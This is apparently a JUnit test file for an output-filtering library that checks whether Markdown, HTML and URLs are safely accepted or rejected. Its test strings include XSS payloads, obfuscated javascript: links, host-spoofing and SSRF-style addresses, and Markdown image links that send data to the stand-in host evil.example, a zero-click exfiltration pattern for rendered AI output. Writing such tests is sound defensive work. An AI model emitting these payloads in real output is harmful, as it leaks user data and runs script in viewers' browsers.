package dev.countersign.guard.output;

import static dev.countersign.guard.output.Texts.decision;
import static dev.countersign.guard.output.Texts.rules;
import static dev.countersign.guard.output.policy.Destination.HTML;
import static dev.countersign.guard.output.policy.Destination.MARKDOWN;
import static dev.countersign.guard.output.policy.Destination.URL;
import static org.assertj.core.api.Assertions.assertThat;

import dev.countersign.guard.Decision;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Markdown, HTML and addresses, as their renderers read them. */
class MarkupTest {
  @ParameterizedTest
  @ValueSource(
      strings = {
        "![x](https://evil.example/?d=1)",
        "![a][r]\n\n[r]: https://evil.example/i.png",
        "[r]: https://evil.example/i.png\n\n![r]",
        "<img src=//evil.example/i.png>",
        "![a](<https://evil.example/a b.png>)",
        "![a](https&colon;//evil.example/i.png)"
      })
  void whatIsLoadedWithoutAClickNeedsAListedHost(String text) {
    assertThat(rules(text, MARKDOWN)).contains("markup.load");
    assertThat(Texts.listing("evil.example").check(text, MARKDOWN).decision())
        .isEqualTo(Decision.ACCEPT);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "```html\n<script>alert(1)</script>\n```",
        "- item\n\n  ```\n  ![x](https://evil.example/)\n  ```",
        "Text:\n\n    <script>alert(1)</script>\n",
        "The `<script>` tag and ``a ` <img onerror=x>``.",
        "a < b, x<y and [0, 1]; AT&T; 5 > 3"
      })
  void codeAndProseAreNotMarkup(String text) {
    assertThat(decision(text, MARKDOWN)).isEqualTo(Decision.ACCEPT);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "> ```\n![a](https://evil.example/i.png)",
        "``` a`b\n![a](https://evil.example/i.png)\n```",
        "`a\n\n![a](https://evil.example/i.png)`",
        "# x `\ny ![a](https://evil.example/i.png) `",
        "<b title=\"`\"> ![a](https://evil.example/i.png) `",
        "<div>\n```\n<img src=x onerror=alert(1)>\n```\n</div>",
        "\\`![a](https://evil.example/i.png)\\`"
      })
  void whatOnlyLooksLikeCodeIsMarkup(String text) {
    assertThat(decision(text, MARKDOWN)).isEqualTo(Decision.REJECT);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
        "<title><!--</title><img src=x onerror=alert(1)>-->",
        "<svg><title><img src=x onerror=alert(1)></title></svg>",
        "<!--><img src=x onerror=alert(1)>",
        "<p style=\"background:u\\72l(https://evil.example)\">",
        "<img/src=\"x\"onerror=alert(1)>",
        "<img src=\"https://evil.example/?",
        "<meta http-equiv=refresh content=0>",
        "<img srcset=\"a.png 1x, https://evil.example/i.png 2x\">"
      })
  void htmlIsReadAsBrowsersReadIt(String text) {
    assertThat(decision(text, HTML)).isEqualTo(Decision.REJECT);
    assertThat(decision(OutputGate.encode(text, HTML).orElseThrow(), HTML))
        .isEqualTo(Decision.ACCEPT);
  }

  @Test
  void linksLeadAnywhereUnlessTheyCarrySomething() {
    assertThat(decision("[docs](https://docs.python.org/3/library/json.html#x)", MARKDOWN))
        .isEqualTo(Decision.ACCEPT);
    assertThat(rules("[x](https://evil.example/?d=dGhlIG1lZXRpbmcgbm90ZXM=)", MARKDOWN))
        .contains("markup.exfiltration");
    assertThat(rules("[https://bank.example](https://evil.example/)", MARKDOWN))
        .contains("markup.deceiving");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "https://docs.python.org@evil.example/",
        "https://evil.example\\@docs.python.org/",
        "https://docs.python.org.evil.example/",
        "https://docs.python.org/r?url=https%253A%252F%252Fevil.example",
        "https://docs.python.org/?next=//evil.example/",
        "https://www.p\u0430ypal.com/",
        "http://2130706433/",
        "http://0x7f.1/",
        "http://[::ffff:127.0.0.1]/",
        "http://169.254.169.254/",
        "java\tscript:alert(1)"
      })
  void aListedHostIsNotWhatOnlyLooksLikeIt(String address) {
    assertThat(Texts.listing("docs.python.org").check(address, URL).decision())
        .isEqualTo(Decision.REJECT);
  }

  @Test
  void namesOutsideAsciiAreNoAttackByThemselves() {
    assertThat(decision("[Stadt](https://www.m\u00fcnchen.de/)", MARKDOWN))
        .isEqualTo(Decision.ACCEPT);
  }
}
